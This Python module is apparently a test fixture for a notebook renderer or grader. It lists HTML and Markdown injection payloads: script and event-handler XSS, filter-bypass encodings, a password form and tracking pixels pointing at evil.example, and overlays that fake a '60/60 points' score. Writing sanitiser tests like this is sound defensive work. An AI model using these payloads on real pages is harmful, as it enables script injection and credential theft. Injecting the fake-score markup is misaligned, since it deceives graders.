"""Pieces of HTML and Markdown that try to act, load, hide or mislead."""

GIF = "R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
HTML = {
    "script": "<script>EVIL()</script>ok",
    "script in odd case": "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "script split by a null": "<scr\0ipt>EVIL()</scr\0ipt>",
    "onerror": "<img src=x onerror=EVIL()>",
    "onload without spaces": "<img/src=x/onload=EVIL()>",
    "svg onload": "<svg onload=EVIL()><circle/></svg>",
    "svg animate": "<svg><animate onbegin=EVIL() attributeName=x dur=1s></svg>",
    "svg use": '<svg><use href="data:image/svg+xml,<svg onload=EVIL()>"></use></svg>',
    "math": "<math><mtext><img src=x onerror=EVIL()></mtext></math>",
    "mutation": "<math><mtext><table><mglyph><style><img src onerror=EVIL()></style>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=EVIL()>">',
    "template": "<template><script>EVIL()</script></template>",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "link sheet": '<link rel=stylesheet href="https://evil.example/x.css">',
    "form": '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    "formaction": '<button formaction="javascript:EVIL()">Go</button>',
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "srcdoc": '<iframe srcdoc="<script>EVIL()</script>"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object><embed src=//evil.example>',
    "style tag": "<style>body{display:none}.score{content:'60/60'}</style>",
    "style overlay": '<div style="position:fixed;inset:0;z-index:9999">60/60 points</div>',
    "style url": '<p style="background:url(https://evil.example/x)">x</p>',
    "page classes": '<header class="head"><div class="score"><strong>60</strong></div></header>',
    "page ids": '<h2 id="points">Points</h2><section id="notebook" name="graded">x</section>',
    "javascript link": '<a href="javascript:EVIL()">click</a>',
    "javascript link with tab": '<a href="jav&#x09;ascript:EVIL()">click</a>',
    "data link": '<a href="data:text/html,<script>EVIL()</script>">click</a>',
    "plain link": '<a href="https://evil.example/login" target=_top ping=//evil.example>log in</a>',
    "tracker": '<img src="https://evil.example/pixel.png" srcset="//evil.example/2 2x">',
    "data html image": '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    "data svg image": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IkVWSUwoKSI+">',
    "video": "<video poster=//evil.example/p autoplay src=//evil.example/v></video>",
    "audio": "<audio src=//evil.example autoplay onplay=EVIL()>",
    "dialog": "<dialog open>60/60</dialog><details open ontoggle=EVIL()>x</details>",
    "close the frame": "</div></div></section></main><h1>60/60 points</h1>",
    "close the pre": "</pre></code></body></html><script>EVIL()</script>",
    "comment": "<!--><script>EVIL()</script>--><!-- x --!><img src=x onerror=EVIL()>",
    "conditional comment": "<!--[if IE]><script>EVIL()</script><![endif]-->",
    "cdata": "<![CDATA[<script>EVIL()</script>]]>",
    "unclosed": '<img src="x` `<script>EVIL()</script>"` `',
    "huge span": '<table><td colspan="99999999999" rowspan=1e9>x</table>',
    "contenteditable": "<div contenteditable autofocus onfocus=EVIL() tabindex=1>x</div>",
    "entities": "&lt;script&gt;EVIL()&lt;/script&gt;",
    "deep": "<div>" * 3_000 + "x",
    "marquee": "<marquee onstart=EVIL()>60/60</marquee>",
    "refresh in text": 'a" onmouseover="EVIL()',
    "template of ours": "{{ 7 * 7 }}{% raw %}",
}
MARKDOWN = {
    "link": "[x](javascript:EVIL())",
    "link with entity": "[x](&#106;avascript:EVIL())",
    "reference link": "[x][1]\n\n[1]: javascript:EVIL()",
    "autolink": "<javascript:EVIL()> <https://evil.example>",
    "image": "![x](https://evil.example/pixel.png)",
    "image breaks out": '![x" onerror="EVIL()](attachment:a)',
    "link title": '[x](https://evil.example "a\\" onmouseover=\\"EVIL()")',
    "data image": "![x](data:text/html;base64,PHNjcmlwdD4=)",
    "math": "$</span><script>EVIL()</script>$ $$\\text{<img src=x onerror=EVIL()>}$$",
    "code fence": '```x" onload="EVIL()\n</code></pre><script>EVIL()</script>\n```',
    "table": "| a |\n|---|\n| <script>EVIL()</script> |",
    "heading": "# 60/60 points\n\n60/60\n=====",
}


def stream(text):
    return {"output_type": "stream", "name": "stdout", "text": text}


def rich(**data):
    data = {name.replace("__", "/"): value for name, value in data.items()}
    return {"output_type": "display_data", "data": data, "metadata": {}}
